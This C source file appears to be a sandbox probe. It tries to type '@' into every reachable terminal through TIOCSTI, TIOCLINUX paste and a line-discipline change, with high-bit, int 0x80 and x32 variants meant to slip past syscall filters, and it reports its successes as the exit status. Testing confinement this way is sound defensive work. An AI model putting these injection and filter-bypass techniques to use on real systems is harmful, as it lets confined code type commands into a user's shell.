/* Types "@" into every terminal that it can reach, in every way that Linux has, and takes a terminal
 * as its own first. The exit status is how many requests went through. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/tiocl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define HIGH_BITS (1UL << 32)
#define OTHER_DISCIPLINE 27 /* N_NULL */

static char text[] = "@"; /* below 4 GiB in a program that is not position independent */

static int request(int fd, unsigned long number, void *argument) {
    return syscall(SYS_ioctl, fd, number, argument) == 0;
}

#if defined(__x86_64__)
static sigjmp_buf faulted;

static void on_fault(int signal) {
    siglongjmp(faulted, signal);
}

/* The i386 call of the same kernel; as x86-64's ioctl it would be setsockopt. On virtual machines
 * without a 32-bit mode it is a fault. */
static int old_request(int fd, unsigned long number) {
    long result;
    signal(SIGSEGV, on_fault);
    if (sigsetjmp(faulted, 1))
        return 0;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(54), "b"((long)fd), "c"(number), "d"((long)(uintptr_t)text)
                     : "memory", "r8", "r9", "r10", "r11");
    return result == 0;
}

static int x32_request(int fd, unsigned long number) {
    return syscall(0x40000000 | 514, fd, number, text) == 0;
}
#else
static int old_request(int fd, unsigned long number) {
    (void)fd;
    (void)number;
    return 0;
}
#define x32_request old_request
#endif

static int paste(int fd, char code) {
    struct {
        char code;
        unsigned short at[4];
        unsigned short mode;
    } __attribute__((packed)) selection = {.code = code, .at = {1, 1, 2, 1}};
    return request(fd, TIOCLINUX, &selection) + request(fd, TIOCLINUX | HIGH_BITS, &selection);
}

static int change_discipline(int fd) {
    int discipline = OTHER_DISCIPLINE;
    int done = request(fd, TIOCSETD, &discipline) + request(fd, TIOCSETD | HIGH_BITS, &discipline);
    discipline = 0;
    request(fd, TIOCSETD, &discipline);
    return done;
}

static int attack(int fd, int compatible) {
    request(fd, TIOCSCTTY, (void *)1);
    request(fd, TIOCSCTTY, 0);
    int count = change_discipline(fd); /* first: it throws away what was typed */
    count += request(fd, TIOCSTI, text) + request(fd, TIOCSTI | HIGH_BITS, text) +
             request(fd, TIOCSTI | 0xfffUL << 40, text);
    count += paste(fd, TIOCL_SETSEL) + paste(fd, TIOCL_PASTESEL);
    if (compatible)
        count += old_request(fd, TIOCSTI) + x32_request(fd, TIOCSTI);
    return count;
}

int main(int argc, char **argv) {
    int compatible = argc > 1 && argv[1][0] == 'c'; /* a filter may kill for it */
    signal(SIGHUP, SIG_IGN);
    int count = 0;
    for (int fd = 0; fd < 10; fd++)
        count += attack(fd, compatible);
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty >= 0)
        count += attack(tty, compatible);
    return count;
}
